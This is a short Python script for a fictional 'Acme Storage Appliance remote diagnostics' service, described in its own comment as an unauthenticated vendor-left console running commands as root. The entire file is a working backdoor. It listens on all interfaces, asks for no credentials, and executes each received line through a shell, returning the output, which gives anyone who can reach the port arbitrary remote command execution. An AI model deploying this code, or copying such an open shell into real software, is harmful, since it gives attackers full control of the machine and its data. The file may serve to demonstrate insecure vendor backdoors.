#!/usr/bin/env python3
# "Vendor remote diagnostics": an unauthenticated command console left behind by a vendor.
# It runs every line it receives as root. Usage: diagd.py PORT
import socketserver
import subprocess
import sys

BANNER = b"Acme Storage Appliance - remote diagnostics v1.2 (type 'exit' to quit)\n"


class Session(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(BANNER)
        while True:
            self.wfile.write(b"diag# ")
            line = self.rfile.readline(4096)
            if not line:
                return
            command = line.decode(errors="replace").strip()
            if command in ("exit", "quit"):
                return
            if not command:
                continue
            try:
                result = subprocess.run(command, shell=True, capture_output=True, timeout=15)
                self.wfile.write(result.stdout + result.stderr)
            except subprocess.TimeoutExpired:
                self.wfile.write(b"diag: command timed out\n")


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


if __name__ == "__main__":
    Server(("0.0.0.0", int(sys.argv[1])), Session).serve_forever()
